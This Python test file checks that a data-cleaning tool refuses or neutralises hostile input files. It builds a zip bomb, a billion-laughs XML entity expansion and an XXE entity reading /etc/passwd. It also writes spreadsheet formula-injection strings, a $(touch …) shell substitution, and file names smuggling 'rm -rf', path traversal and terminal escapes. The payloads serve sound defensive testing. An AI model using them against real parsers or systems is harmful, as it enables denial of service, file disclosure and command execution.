"""Files made to harm: bounded time and memory, nothing executed, one clear line."""

import resource
import subprocess
import sys
import zipfile
import zlib
from functools import cache

import pytest
import xlsxwriter
from read.made_workbooks import FORM, HEAD, ods_row, workbook_parts, write_ods, write_zip
from read.reading import read_tables

from asn_research.clean import clean_folder, open_processed
from asn_research.errors import RawDataError
from asn_research.read import list_raw_files

MEMORY = 3 << 30


@cache
def packed_zeros(n_mib):
    packer = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(1 << 20)
    return b"".join(packer.compress(zeros) for _ in range(n_mib)) + packer.flush()


def bomb(place, n_bytes, declared=None):
    """Write a workbook one of whose parts unpacks to zeros without end; the header may lie about it."""
    write_zip(place, workbook_parts())
    packed = packed_zeros(n_bytes >> 20)
    with zipfile.ZipFile(place, "a") as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet9.xml")
        info.compress_type = zipfile.ZIP_STORED
        archive.writestr(info, packed)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.file_size = declared or n_bytes
    content = bytearray(place.read_bytes())
    at = content.index(
        b"PK\x03\x04", content.rindex(b"xl/worksheets/sheet9.xml", 0, content.rindex(b"PK\x01\x02")) - 40
    )
    content[at + 8 : at + 10] = (8).to_bytes(2, "little")
    place.write_bytes(content)


def in_bounds(folder, tmp_path):
    """Clean a folder in a process that may use so much memory and time; return its exit code and words."""
    done = subprocess.run(
        [sys.executable, "-m", "asn_research", "clean", "--lang", "en", "--raw", str(folder), "--out", str(tmp_path / "out")],
        capture_output=True, text=True, check=False, timeout=120,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY)),
    )  # fmt: skip
    return done.returncode, done.stderr.strip()


@pytest.fixture
def raw(tmp_path):
    (tmp_path / "raw").mkdir()
    return tmp_path / "raw"


@pytest.mark.parametrize("declared", [None, 1000], ids=["honest_header", "lying_header"])
def test_a_zip_bomb_is_refused_before_it_is_opened(raw, tmp_path, declared):
    bomb(raw / "a.xlsx", (1 << 30) + (64 << 20), declared)
    assert (raw / "a.xlsx").stat().st_size < 10 << 20
    code, said = in_bounds(raw, tmp_path)
    # On a slow machine a line of progress stands before it.
    assert code == 11
    assert "Traceback" not in said
    assert "unpacks to more than 1 GiB" in said.splitlines()[-1]


def test_entities_that_multiply_are_refused(raw, tmp_path):
    lines = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{k} "{f"&a{k - 1};" * 10}">' for k in range(1, 10))]
    evil = f'<?xml version="1.0"?><!DOCTYPE x [{"".join(lines)}]><sst>&a9;</sst>'.encode()
    write_zip(raw / "a.xlsx", workbook_parts(**{"xl/sharedStrings.xml": evil}))
    code, said = in_bounds(raw, tmp_path)
    assert code == 11
    assert "XML entities" in said


def test_an_entity_that_reads_a_file_is_refused(raw):
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst>&f;</sst>'
    write_zip(raw / "a.xlsx", workbook_parts(**{"xl/sharedStrings.xml": evil}))
    with pytest.raises(RawDataError, match="XML entities"):
        read_tables(list_raw_files(raw)[0])


def test_a_million_columns_of_text_are_refused(raw, tmp_path):
    (raw / "a.csv").write_text("\n".join([";".join(["x"] * 1_000_000)] * 3))
    code, said = in_bounds(raw, tmp_path)
    assert code == 11
    assert "more than 2,000 columns" in said


def far_cell(reference, row):
    return f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'.encode()


@pytest.mark.parametrize(
    ("reference", "row", "said"),
    [("XFD2", 3, "2,000 columns"), ("AZ1048576", 1048576, "reach to row 1048576")],
)
def test_a_stray_cell_far_away_is_refused(raw, tmp_path, reference, row, said):
    parts = workbook_parts()
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", far_cell(reference, row))
    write_zip(raw / "a.xlsx", parts | {"xl/worksheets/sheet1.xml": sheet})
    code, words = in_bounds(raw, tmp_path)
    assert code == 11
    assert said in words


def test_a_cell_repeated_a_million_times_is_refused(raw, tmp_path):
    cell = ods_row(["x"]).replace("office:", 'table:number-columns-repeated="1000000" office:')
    write_ods(raw / "a.ods", cell * 5)
    code, said = in_bounds(raw, tmp_path)
    assert code == 11
    assert "2,000 columns" in said


def test_empty_stretches_that_programs_write_are_no_bomb(raw):
    empty = '<table:table-cell table:number-columns-repeated="16300"/>'
    end = f"{empty}</table:table-row>"
    nothing = f'<table:table-row table:number-rows-repeated="1048000">{empty}</table:table-row>'
    write_ods(raw / "a.ods", ods_row(HEAD.split(";"), end=end) + ods_row(FORM.split(";"), end=end) + nothing)
    (table,) = read_tables(list_raw_files(raw)[0]).tables
    assert len(table) == 1


def test_what_looks_like_a_command_is_text(raw, tmp_path):
    marker = tmp_path / "executed"
    words = [
        f"=cmd|'/C touch {marker}'!A0",
        '=HYPERLINK("http://x/?"&A1)',
        f"$(touch {marker})",
        "<script>alert(1)</script>",
        "@SUM(1)",
    ]
    (raw / "a.csv").write_text(
        "\n".join([HEAD, *(FORM.replace("5/7", f"{k}/7") + word for k, word in enumerate(words, 1))])
    )
    (raw / "units.txt").write_text(HEAD + "\n" + FORM.replace("Dishub", "=1+1 Dinas Antariksa"))
    clean_folder(raw, tmp_path / "out")
    processed = open_processed(tmp_path / "out")
    assert len(processed.table("citizen_feedback")) == len(words)
    assert processed.table("quarantine")["old_value"].tolist() == ["withheld"]
    # A person opens the review file with a spreadsheet: the text must not become a formula there.
    review = (raw / "_perbaikan" / "unit_names.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1 Dinas Antariksa" in review
    assert not marker.exists()


def test_names_that_lead_elsewhere_stay_in_the_folder(raw, tmp_path):
    book = xlsxwriter.Workbook(str(raw / "a;rm -rf x.xlsx"))
    page = book.add_worksheet("..%2f..%2fetc")
    for column, text in enumerate(HEAD.split(";")):
        page.write(0, column, text)
        page.write(1, column, FORM.split(";")[column])
    book.close()
    (raw / "b\x1b]0;x\x07.csv").write_text("\n".join([HEAD, FORM.replace("5/7", "6/7")]))
    before = set(tmp_path.rglob("*"))
    report = clean_folder(raw, tmp_path / "out")
    assert {p for p in set(tmp_path.rglob("*")) - before if tmp_path / "out" not in [p, *p.parents]} == set()
    assert all(line.isprintable() for line in report.lines())
